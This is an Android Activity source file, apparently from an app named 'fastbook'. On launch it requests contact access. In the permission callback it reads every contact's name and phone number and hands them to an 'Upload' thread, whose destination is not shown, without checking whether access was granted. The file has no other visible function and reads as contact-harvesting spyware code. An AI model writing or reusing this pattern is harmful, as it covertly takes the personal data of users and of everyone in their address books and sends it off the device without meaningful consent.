package com.example.fastbook;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import java.util.ArrayList;
import java.util.List;

/** Uploads after the grant. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        requestPermissions(new String[] {"android.permission.READ_CONTACTS"}, 7);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        new Upload(readAll()).start();
    }

    private List<Linkman> readAll() {
        List<Linkman> people = new ArrayList<>();
        String[] columns = {"display_name", "data1"};
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            Linkman linkman = new Linkman();
            linkman.setName(cursor.getString(0));
            linkman.setMobile(cursor.getString(1));
            people.add(linkman);
        }
        cursor.close();
        return people;
    }
}
